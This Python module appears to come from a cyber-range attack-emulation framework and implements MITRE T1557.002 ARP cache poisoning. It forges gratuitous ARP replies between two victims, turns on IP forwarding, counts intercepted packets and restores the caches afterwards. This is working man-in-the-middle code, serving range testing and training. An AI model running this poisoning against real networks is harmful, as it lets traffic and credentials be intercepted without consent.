"""Adversary-in-the-middle: T1557.002 ARP cache poisoning between two victims.

The two targets (victims A and B, both on the actor's link) are resolved with one ARP exchange.
Then, every ``interval`` seconds for ``duration`` seconds, each victim gets one unicast
*gratuitous-style ARP reply* that maps the other victim's address to the actor's MAC
(``op=2, psrc=pdst=<other>, hwsrc=hwdst=<actor MAC>``). Linux treats such a reply as a
gratuitous ARP and overrides an existing neighbour entry even inside its ``locktime``, so the
poisoning takes at the first frame (a plain reply may be ignored for up to a second). Linux
only *updates* entries: a victim that never talked to the other has nothing to poison.

With ``forward`` (default) the actor's namespace forwards the intercepted packets (ip_forward=1
and send_redirects=0 for the duration, then the previous values are restored), so the victims
keep talking through the actor. A sniffer counts the IPv4 frames that reach the actor's MAC but
are addressed to another IP: the ``intercepted_packets`` fact.

At the end (``restore``, default) each victim gets ``restore_count`` correct gratuitous replies
(the real MAC of the other), so both caches are as before.

Ledger: ARP frames are not IPv4 and have no 5-tuple; they are counted in the facts
(``arp_frames``) and the log. Packets relayed for the victims keep the victims' addresses (they
are the victims' traffic, not the actor's) and are not ledger flows either.

Outcome: ``succeeded`` only when at least one packet between the victims came through the
actor (``intercepted_packets`` > 0); poisoning frames sent with nothing intercepted is ``failed``
with that reason.
"""
from __future__ import annotations

import socket
import threading
import time

from cyberrange.attack.spec import Param, technique
from cyberrange.attack.techniques.common import (
    Blocked,
    Result,
    _unique_ips,
    conclude,
    count_arp,
    send_or_block,
)
from cyberrange.attack.techniques.layer2 import (
    ETH_P_IP,
    PACKET_OUTGOING,
    arp_resolve,
    isolation_reason,
    route_targets,
)

MAX_SECONDS = 3600                # the longest poisoning (playbook check refuses more)


class Interceptor(threading.Thread):
    """Counts IPv4 frames sent to ``mac`` whose destination IP is not ``own_ip``."""

    def __init__(self, iface: str, mac: str, own_ip: str):
        super().__init__(daemon=True)
        self.mac = bytes.fromhex(mac.replace(":", ""))
        self.own = socket.inet_aton(own_ip)
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
        self.sock.bind((iface, ETH_P_IP))
        self.sock.settimeout(0.1)
        self.count = 0
        self.pairs: dict[tuple[str, str], int] = {}
        self._stop_flag = threading.Event()
        self.start()

    def run(self) -> None:
        while not self._stop_flag.is_set():
            try:
                frame, addr = self.sock.recvfrom(2048)
            except TimeoutError:
                continue
            except OSError:
                return
            if addr[2] == PACKET_OUTGOING or len(frame) < 34 or frame[:6] != self.mac:
                continue
            if frame[30:34] == self.own:
                continue
            self.count += 1
            key = (socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34]))
            self.pairs[key] = self.pairs.get(key, 0) + 1

    def stop(self) -> int:
        self._stop_flag.set()
        self.join(2)
        self.sock.close()
        return self.count


def _sysctl(path: str, value: str | None = None) -> str | None:
    p = f"/proc/sys/net/ipv4/{path}"
    try:
        with open(p) as fh:
            old = fh.read().strip()
        if value is not None:
            with open(p, "w") as fh:
                fh.write(value)
        return old
    except OSError:
        return None


@technique(
    "T1557.002",
    "Adversary-in-the-Middle: ARP Cache Poisoning",
    "credential-access",
    {
        "duration": Param((int, float), 10, "seconds to keep the caches poisoned (at most 3600)"),
        "interval": Param((int, float), 1.0, "seconds between poisoning rounds"),
        "forward": Param(bool, True, "relay the intercepted packets (ip_forward for the duration)"),
        "restore": Param(bool, True, "send the true mappings at the end"),
        "restore_count": Param(int, 3, "correct replies per victim at the end"),
        "timeout": Param((int, float), 1.0, "seconds to wait for the victims' ARP answers"),
    },
    produces=("victims", "intercepted_packets", "arp_frames"),
)
def arp_spoof(targets: list[str], params: dict) -> Result:
    from scapy.arch import get_if_hwaddr
    from scapy.config import conf
    from scapy.layers.l2 import ARP, Ether
    res = Result(start=time.time())
    duration = float(params["duration"])
    interval = max(0.05, float(params["interval"]))
    forward, restore = bool(params["forward"]), bool(params["restore"])
    restore_count = max(1, int(params["restore_count"]))
    if not 0 < duration <= MAX_SECONDS:
        res.outcome, res.error = "error", f"duration must be in (0, {MAX_SECONDS}] s"
        res.end = time.time()
        return res
    ips = _unique_ips(targets)
    if len(ips) != 2:
        res.outcome, res.error = "error", f"needs exactly two victims, got {len(ips)}"
        res.end = time.time()
        return res
    hops = route_targets(ips, res.log)
    cut_off = None if hops else isolation_reason()
    if cut_off:
        return conclude(res, False, cut_off)
    if len(hops) != 2 or any(h.gw for h in hops) or hops[0].iface != hops[1].iface:
        res.outcome = "failed"
        res.error = "both victims must be on one of the actor's links (ARP does not cross routers)"
        res.end = time.time()
        return res
    iface, my_ip = hops[0].iface, hops[0].src
    my_mac = get_if_hwaddr(iface)
    macs = arp_resolve(iface, my_ip, ips, float(params["timeout"]))
    missing = [ip for ip in ips if ip not in macs]
    if missing:
        res.log.append(f"victims did not answer ARP: {', '.join(missing)}; nothing poisoned")
        return conclude(res, False, None if macs else isolation_reason())
    a, b = ips

    def garp(victim: str, claimed_ip: str, claimed_mac: str) -> bytes:
        return bytes(Ether(src=my_mac, dst=macs[victim])
                     / ARP(op=2, hwsrc=claimed_mac, psrc=claimed_ip, hwdst=claimed_mac,
                           pdst=claimed_ip))

    poison = [garp(a, b, my_mac), garp(b, a, my_mac)]
    heal = [garp(a, b, macs[b]), garp(b, a, macs[a])]
    sock = conf.L2socket(iface=iface)
    frames = rounds = 0
    old_fwd = old_redir_all = old_redir_if = None
    sniffer = None
    try:
        if forward:
            old_redir_all = _sysctl("conf/all/send_redirects", "0")
            old_redir_if = _sysctl(f"conf/{iface}/send_redirects", "0")
            old_fwd = _sysctl("ip_forward", "1")
        sniffer = Interceptor(iface, my_mac, my_ip)
        t0 = time.monotonic()
        while True:
            for f in poison:
                send_or_block(sock.send, f, f"a poisoning frame out of {iface}")
                frames += 1
                count_arp()
            rounds += 1
            nxt = t0 + rounds * interval
            if nxt >= t0 + duration:
                time.sleep(max(0.0, t0 + duration - time.monotonic()))
                break
            time.sleep(max(0.0, nxt - time.monotonic()))
    except Blocked as exc:          # the actor's node stopped the poisoning
        res.cut(exc.reason)
    finally:
        try:
            if restore:
                for _ in range(restore_count):
                    for f in heal:
                        send_or_block(sock.send, f, f"a restoring frame out of {iface}")
                        frames += 1
                        count_arp()
                    time.sleep(0.05)
        except Blocked:
            res.log.append("the true mappings could not be sent back (blocked too)")
        sock.close()
        intercepted = sniffer.stop() if sniffer else 0
        if forward:
            if old_fwd is not None:
                _sysctl("ip_forward", old_fwd)
            if old_redir_all is not None:
                _sysctl("conf/all/send_redirects", old_redir_all)
            if old_redir_if is not None:
                _sysctl(f"conf/{iface}/send_redirects", old_redir_if)
    res.log.append(f"{rounds} poisoning rounds, {frames} ARP frames ({'with' if restore else 'no'} "
                   f"restore); {intercepted} IPv4 frames intercepted"
                   + (f" { {f'{s}->{d}': n for (s, d), n in sniffer.pairs.items()} }"
                      if sniffer and sniffer.pairs else ""))
    res.facts = {"victims": [a, b], "victim_macs": {a: macs[a], b: macs[b]}, "actor_mac": my_mac,
                 "arp_frames": frames, "intercepted_packets": intercepted,
                 "forwarded": forward}
    if intercepted == 0 and not res.blocked_reason:     # no man in the middle was observed
        res.error = ("no packet between the victims came through the actor (0 intercepted): "
                     "the caches were not poisoned, or the victims did not talk to each other")
        return conclude(res, False, None)
    return conclude(res, True, None)
